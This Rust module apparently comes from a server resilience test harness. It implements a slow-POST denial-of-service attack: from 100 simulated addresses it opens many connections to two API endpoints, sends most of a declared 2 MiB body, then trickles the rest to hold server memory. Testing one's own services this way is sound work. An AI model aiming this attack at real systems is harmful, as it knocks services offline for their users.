//! Row 4: strangers send large bodies almost to their ends, and then only as fast as they must.

use std::{
    io,
    net::SocketAddr,
    time::{Duration, Instant},
};

use tokio::{
    io::AsyncWriteExt,
    task::JoinSet,
    time::{sleep, timeout_at},
};

use crate::{
    attack::{Attack, attacker},
    requests::{Statuses, connect_from, response},
};

const ADDRESSES: usize = 100;
const EACH: usize = 12;
const BODY_BYTES: usize = 2 << 20;
/// Number of bytes that are sent at once.
const SENT_BYTES: usize = 28 << 16;
static CHUNK: [u8; 1 << 16] = [b' '; 1 << 16];
/// Then 20 KiB per second.
const SLOWLY: (usize, Duration) = (4096, Duration::from_millis(200));
/// Time before a refused connection is made again: what is attacked is memory, not the processor.
const PAUSE: Duration = Duration::from_secs(3);

pub(crate) const ATTACK: Attack = Attack::new(4, "unfinished bodies of 2 MiB from 100 addresses", |server| {
    let targets = [(server.handler, "/applications/some/devices/dev/simulate"), (server.account, "/api/v2/users")];
    Box::pin(async move { attacker(move |end| hold_all(targets, end)) })
});

async fn hold_all(targets: [(SocketAddr, &'static str); 2], end: Instant) -> String {
    let mut holding = JoinSet::new();
    for number in 0..ADDRESSES * EACH {
        holding.spawn(hold_until(targets[number % 2], number, end));
    }
    let held = holding.join_all().await;
    let open = held.iter().filter(|(is_held, _)| *is_held).count();
    let mut statuses = Statuses::default();
    held.into_iter().for_each(|(_, of)| statuses.merge(of));
    format!("{open} bodies held at the end; {statuses}")
}

/// Sends a body again whenever one is refused; returns whether one is held at the end, and the answers.
async fn hold_until((to, path): (SocketAddr, &str), number: usize, end: Instant) -> (bool, Statuses) {
    let mut statuses = Statuses::default();
    while Instant::now() < end {
        match timeout_at(end.into(), hold(to, path, 1 + number % ADDRESSES)).await {
            Ok(status) => statuses.add(status.unwrap_or_default()),
            Err(_) => return (true, statuses),
        }
        sleep(PAUSE).await;
    }
    (false, statuses)
}

/// Returns when the request is answered.
async fn hold(to: SocketAddr, path: &str, address: usize) -> io::Result<u16> {
    let (mut reading, mut writing) = connect_from(address, to).await?.into_split();
    let sending = async {
        let head = format!(
            "POST {path} HTTP/1.1\r\nhost: bench\r\ncontent-type: application/json\r\n\
             content-length: {BODY_BYTES}\r\n\r\n"
        );
        writing.write_all(head.as_bytes()).await?;
        for _ in 0..SENT_BYTES / CHUNK.len() {
            writing.write_all(&CHUNK).await?;
        }
        loop {
            sleep(SLOWLY.1).await;
            writing.write_all(&CHUNK[..SLOWLY.0]).await?;
        }
    };
    let mut buffer = Vec::new();
    let receiving = response(&mut reading, &mut buffer);
    tokio::select! {
        biased;
        status = receiving => status,
        result = sending => result,
    }
}
